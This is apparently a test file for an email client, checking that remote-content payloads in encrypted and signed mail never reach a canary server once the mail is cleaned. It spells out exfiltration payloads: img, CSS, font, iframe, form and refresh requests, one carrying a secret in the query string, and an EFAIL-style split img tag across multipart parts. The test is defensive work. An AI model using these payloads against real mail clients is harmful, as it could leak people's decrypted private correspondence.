import { join } from 'node:path';
import { generateKey, readKey } from 'openpgp';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openInside } from '../../../main/engine/mailbox/open-inside.ts';
import { readMessage } from '../../../main/engine/mailbox/read-message.ts';
import type { ReadInput } from '../../../main/engine/mailbox/read-result.ts';
import { encrypted, signed } from '../../engine/smime/write-smime.ts';
import { type CanaryServer, startCanaryServer } from '../../support/canary-server.ts';
import { closePages, shareChromium } from '../../support/chromium.ts';
import { createMailAuthority } from '../../support/mail-authority.ts';
import {
  around,
  encryptedEntity,
  encryptTo,
  newPgpPerson,
  signDetached,
  signedEntity,
} from '../../support/pgp-mail.ts';
import { servePage } from '../window-page.ts';

const browser = await shareChromium();
const desk = 'desk@clinic.example';
const ana = 'ana@clinic.example';
const secret = 'the test was positive';

/* Every way to protect a mail, honest and not, with pictures, styles and more from an attacker's web server in it. */
describe.skipIf(browser === null)('what an attacker puts into protected mail', { timeout: 60_000 }, () => {
  let canary: CanaryServer;
  let page: Page;
  const mails = new Map<string, Buffer>();
  let read: Omit<ReadInput, 'source'>;

  const remote = (name: string) => {
    const at = `${canary.address}/${name.replace(/\W/g, '-')}`;
    return [
      `<link rel="stylesheet" href="${at}-sheet"><link rel="preconnect" href="${at}"><link rel="prefetch" href="${at}-pre">`,
      `<style>@import "${at}-import"; p { background: url(${at}-back) } @font-face { font-family: x; src: url(${at}-font) }</style>`,
      `<meta http-equiv="refresh" content="0; url=${at}-refresh"><base href="${at}-base/">`,
      `<img src="${at}-img?q=${secret}" srcset="${at}-set 2x"><video poster="${at}-poster" src="${at}-video"></video>`,
      `<iframe src="${at}-frame"></iframe><object data="${at}-object"></object><svg><image href="${at}-svg"/></svg>`,
      `<form action="${at}-form"><input type="image" src="${at}-input"></form><p style="background:url(${at}-inline)">${secret}</p>`,
    ].join('\n');
  };
  const html = (name: string) => `Content-Type: text/html; charset=utf-8\n\n${remote(name)}\n`;
  const add = (name: string, entity: string | Buffer) =>
    mails.set(name, around([`From: ${ana}`, `To: ${desk}`, `Subject: ${name}`], entity.toString('latin1')));
  const broken = (name: string, part: string) =>
    `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/html\n\n${remote(name)}<img src="${canary.address}/open?\n--out\n${part}\n--out\nContent-Type: text/html\n\n">${remote(`${name} after`)}\n--out--\n`;

  beforeAll(async () => {
    canary = await startCanaryServer();
    // No policy of the window's own: cleaning and the frame have to hold alone.
    const url = await servePage(join(import.meta.dirname, 'mail-page.tsx'), null);
    page = (await browser?.newPage()) as Page;
    await page.goto(url);

    const own = await generateKey({ userIDs: [{ email: desk }] });
    const person = await newPgpPerson('Ana', ana);
    const ourKey = await readKey({ armoredKey: own.publicKey });
    const county = createMailAuthority();
    const [ours, hers] = [county.issue({ address: desk, key: 'rsa' }), county.issue({ address: ana })];
    const now = Date.now();
    const key = { fingerprint: person.key.getFingerprint(), publicKey: person.publicKey };
    read = {
      privateKeys: [own.privateKey],
      candidates: [{ ...key, addresses: [ana], compared: true }],
      smime: { identities: [ours], candidates: [], ownRoots: [county.certificate] },
      ownAddress: desk,
      arrivedAt: now,
      now,
    };
    const crlf = (name: string) => Buffer.from(html(name).replaceAll('\n', '\r\n'));
    const armor = (name: string) => encryptTo(html(name), [ourKey], person);
    add('openpgp encrypted', encryptedEntity(await armor('openpgp encrypted')));
    add('openpgp unsigned', encryptedEntity(await encryptTo(html('openpgp unsigned'), [ourKey], null)));
    add('openpgp signed', signedEntity(html('openpgp signed'), await signDetached(html('openpgp signed'), person)));
    add('openpgp wrapped', broken('openpgp wrapped', encryptedEntity(await armor('openpgp inner'))));
    add('openpgp inline', `${html('openpgp inline')}<pre>${await armor('openpgp block')}</pre>\n`);
    add('openpgp broken', encryptedEntity((await armor('openpgp broken')).replace(/.{20}(?=\n=)/, 'A'.repeat(20))));
    for (const cipher of ['cbc', 'gcm'] as const) {
      add(`smime ${cipher}`, await encrypted(await signed(crlf(`smime ${cipher}`), hers), ours, cipher));
      add(`smime ${cipher} unsigned`, await encrypted(crlf(`smime ${cipher} unsigned`), ours, cipher));
    }
    add('smime signed', await signed(crlf('smime signed'), hers));
    add('smime opaque', await signed(crlf('smime opaque'), hers, 'opaque'));
    const inner = await encrypted(await signed(crlf('smime inner'), hers), ours, 'gcm');
    add('smime wrapped', broken('smime wrapped', inner.toString('latin1')));
    add('plain', html('plain'));
  }, 60_000);
  afterAll(async () => {
    await closePages();
    canary?.close();
  });

  /** All HTML that a message can show, what stands inside it as well. */
  async function shownHtml(source: Buffer): Promise<string[]> {
    const message = { ...read, source: new Uint8Array(source) };
    const outer = await readMessage(message);
    const paths = [-1, ...outer.attachments.keys()].map((at) => [at]);
    const inside = await Promise.all(paths.map((path) => openInside({ ...message, path }).catch(() => null)));
    return [outer.html, ...inside.map((each) => each?.html ?? null)].filter((each) => each !== null);
  }

  it('asks for nothing when it is shown, or quoted into an answer', async () => {
    let pieces = 0;
    for (const [name, source] of mails) {
      for (const piece of await shownHtml(source)) {
        pieces += 1;
        const shown = await page.evaluate((value) => window.showMail(value), piece);
        expect(`${shown.html}${shown.css}`, name).not.toContain(canary.address);
        await page.evaluate((value) => window.typedHtml(value), piece);
        await page.frameLocator('iframe').locator('body').waitFor();
      }
    }
    // Where nothing shows changes there is no HTML at all; broken ones do not open.
    expect(pieces).toBeGreaterThanOrEqual(mails.size - 2);
    // What one browser asks for, it asks for in order: when this came, nothing before it is still on its way.
    await page.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(() => null), `${canary.address}/control`);
    expect(canary.asked).toEqual(['/control']);
  });

  it('asks for a lot when a browser shows it uncleaned, so the canary works', async () => {
    await page.evaluate((value) => {
      const frame = document.createElement('iframe');
      frame.srcdoc = value;
      document.body.append(frame);
    }, remote('uncleaned'));
    await expect.poll(() => canary.asked.length, { timeout: 10_000 }).toBeGreaterThan(5);
  });
});
